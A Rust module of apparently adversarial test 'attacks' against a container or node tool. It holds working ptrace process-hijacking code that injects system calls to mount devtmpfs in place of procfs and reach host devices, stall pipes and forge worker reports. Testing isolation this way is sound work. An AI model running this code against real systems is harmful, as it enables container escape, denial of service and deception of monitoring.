//! Those that take a process over by CAP_SYS_PTRACE and make system calls in its name (on x86_64).

use std::ffi::c_int;

use super::{Attack, Told};
use crate::system::*;

const PTRACE_POKEDATA: c_int = 5;
const PTRACE_CONT: c_int = 7;
const PTRACE_GETREGS: c_int = 12;
const PTRACE_SETREGS: c_int = 13;
const PTRACE_DETACH: c_int = 17;
const PTRACE_SYSCALL: c_int = 24;
const PTRACE_INTERRUPT: c_int = 0x4207;
/// PTRACE_O_TRACESYSGOOD: a stop at a system call is told from others.
const SYSGOOD: i64 = 1;
const WALL: c_int = 0x4000_0000;

// Places in struct user_regs_struct.
const RAX: usize = 10;
const RDX: usize = 12;
const RSI: usize = 13;
const RDI: usize = 14;
const ORIG_RAX: usize = 15;
const RIP: usize = 16;
const RSP: usize = 19;
/// Where the fourth to sixth argument of a system call are.
const MORE: [usize; 3] = [7, 9, 8];

const SYS_WRITE: u64 = 1;
const SYS_MMAP: u64 = 9;
const SYS_SPLICE: u64 = 275;
const SYS_OPENAT: u64 = 257;
const SYS_SENDMSG: u64 = 46;
const SYS_FSOPEN: u64 = 430;
const SYS_FSMOUNT: u64 = 432;

type Registers = [u64; 27];

/// A process that was taken over, stopped.
struct Puppet(i32);

impl Puppet {
    fn seize(pid: i32) -> Option<Self> {
        (unsafe { ptrace(PTRACE_SEIZE, pid, 0_i64, SYSGOOD) } == 0).then_some(())?;
        unsafe { ptrace(PTRACE_INTERRUPT, pid, 0_i64, 0_i64) };
        let puppet = Self(pid);
        puppet.wait().then_some(puppet)
    }

    /// Waits for a stop; none where it has ended.
    fn wait(&self) -> bool {
        let mut status = 0;
        unsafe { waitpid(self.0, &mut status, WALL) == self.0 && status & 0xff == 0x7f }
    }

    /// Goes on to the next beginning or end of a system call.
    fn step(&self) -> Option<Registers> {
        unsafe { ptrace(PTRACE_SYSCALL, self.0, 0_i64, 0_i64) };
        self.wait().then(|| self.registers())
    }

    fn registers(&self) -> Registers {
        let mut registers = [0; 27];
        unsafe { ptrace(PTRACE_GETREGS, self.0, 0_i64, registers.as_mut_ptr()) };
        registers
    }

    fn set(&self, registers: &Registers) {
        unsafe { ptrace(PTRACE_SETREGS, self.0, 0_i64, registers.as_ptr()) };
    }

    /// Puts a string below the stack of the registers, and returns where.
    fn put(&self, registers: &Registers, text: &str) -> u64 {
        let at = (registers[RSP] - 1024) & !7;
        let mut bytes = text.as_bytes().to_vec();
        bytes.resize((text.len() / 8 + 1) * 8, 0);
        for (number, word) in bytes.chunks(8).enumerate() {
            let word = i64::from_le_bytes(word.try_into().unwrap());
            unsafe { ptrace(PTRACE_POKEDATA, self.0, at + number as u64 * 8, word) };
        }
        at
    }

    /// Makes one system call in place of the one that begins next, which comes after it.
    fn call(&self, number: u64, arguments: impl Fn(&Registers) -> [u64; 6]) -> Option<i64> {
        let before = self.step()?;
        self.set(&calling(&before, number, arguments(&before)));
        let result = self.step()?[RAX] as i64;
        let mut again = before;
        (again[RAX], again[RIP]) = (before[ORIG_RAX], before[RIP] - 2);
        self.set(&again);
        Some(result)
    }

    /// Makes a last one, which may not end.
    fn leave_in(&self, number: u64, arguments: [u64; 6]) -> Option<()> {
        let before = self.step()?;
        self.set(&calling(&before, number, arguments));
        unsafe { ptrace(PTRACE_CONT, self.0, 0_i64, 0_i64) };
        Some(())
    }

    fn leave(self) {
        unsafe { ptrace(PTRACE_DETACH, self.0, 0_i64, 0_i64) };
    }
}

fn calling(before: &Registers, number: u64, arguments: [u64; 6]) -> Registers {
    let mut registers = *before;
    registers[ORIG_RAX] = number;
    for (place, value) in [RDI, RSI, RDX].into_iter().chain(MORE).zip(arguments) {
        registers[place] = value;
    }
    registers
}

/// Has whoever makes a procfs make a devtmpfs in its place, and mounts that when somebody has created it.
pub struct Swapper;

impl Attack for Swapper {
    fn on(&mut self, pid: i32, told: &mut Told) {
        let Some(puppet) = Puppet::seize(pid) else { return };
        told.say("took over".into());
        let mut context = None;
        for _ in 0..40 {
            let Some(mut registers) = puppet.step() else { return };
            match (registers[ORIG_RAX], context) {
                (SYS_FSOPEN, None) => {
                    registers[RDI] = puppet.put(&registers, "devtmpfs");
                    puppet.set(&registers);
                    let Some(after) = puppet.step() else { return };
                    context = Some(after[RAX]);
                    told.say(format!("fsopen of devtmpfs: {}", (after[RAX] as i64).signum()));
                }
                (SYS_SENDMSG, Some(context)) => {
                    puppet.step();
                    // Now the other side has it.
                    for _ in 0..200 {
                        match puppet.call(SYS_FSMOUNT, |_| [context, 0, 0, 0, 0, 0]) {
                            Some(0..) => return told.say("got the node's devices".into()),
                            Some(_) => pause_for(2),
                            None => return,
                        }
                    }
                    return puppet.leave();
                }
                _ => {}
            }
        }
        puppet.leave();
    }
}

/// Has a command that waits for its input hold the lock of its output's pipe: by a splice from a file that never answers,
/// or a write from memory that is mapped from one.
#[derive(Default)]
pub struct Staller {
    taken: u32,
}

impl Attack for Staller {
    fn on(&mut self, pid: i32, told: &mut Told) {
        let Some(puppet) = Puppet::seize(pid) else { return };
        self.taken += 1;
        let path = format!("/mnt/file{}", self.taken);
        let opened = puppet.call(SYS_OPENAT, |registers| {
            [-100_i64 as u64, puppet.put(registers, &path), 0, 0, 0, 0]
        });
        let Some(file @ 0..) = opened else { return };
        let stuck = if self.taken % 2 == 0 {
            puppet.leave_in(SYS_SPLICE, [file as u64, 0, 1, 0, 65_536, 0])
        } else {
            // PROT_READ, MAP_PRIVATE.
            let mapped = puppet.call(SYS_MMAP, |_| [0, 65_536, 1, 2, file as u64, 0]);
            let Some(address @ 4096..) = mapped else { return };
            puppet.leave_in(SYS_WRITE, [1, address as u64, 65_536, 0, 0, 0])
        };
        if stuck.is_some() {
            told.say(format!("stalled {}", self.taken % 2));
        }
    }
}

/// Writes reports that are not true into every pipe of messages that it can take.
pub struct Forger;

impl Attack for Forger {
    fn on(&mut self, pid: i32, told: &mut Told) {
        const F_GETFL: c_int = 3;
        const DIRECT_WRITER: c_int = 0o40001;
        let pidfd = unsafe { syscall(434, i64::from(pid), 0_i64) };
        for number in 3..20_i64 {
            let taken = unsafe { syscall(438, pidfd, number, 0_i64) } as c_int;
            if taken >= 0 && unsafe { fcntl(taken, F_GETFL) } & DIRECT_WRITER == DIRECT_WRITER {
                for report in reports() {
                    unsafe { write(taken, report.as_ptr(), report.len()) };
                }
                told.say("forged".into());
            }
            unsafe { close(taken) };
        }
        unsafe { close(pidfd as c_int) };
    }
}

/// What a worker might say: that entering failed, and why; that the command is process 1 of the node; that it has ended
/// well; that the target has.
fn reports() -> Vec<Vec<u8>> {
    let numbers = |numbers: &[u64]| numbers.iter().flat_map(|number| number.to_le_bytes()).collect::<Vec<u8>>();
    let text = |text: &str| [&(text.len() as u64).to_le_bytes()[..], text.as_bytes()].concat();
    let failed = [numbers(&[0]), text("forged by the target"), text("nothing"), numbers(&[1])].concat();
    vec![failed, numbers(&[2, 1]), numbers(&[3, 0]), numbers(&[4]), numbers(&[6])]
}

/// Keeps a command's output open for ever.
pub struct Keeper;

impl Attack for Keeper {
    fn on(&mut self, pid: i32, told: &mut Told) {
        let pidfd = unsafe { syscall(434, i64::from(pid), 0_i64) };
        if unsafe { syscall(438, pidfd, 1_i64, 0_i64) } >= 0 {
            told.say("kept".into());
        }
        unsafe { close(pidfd as c_int) };
    }
}
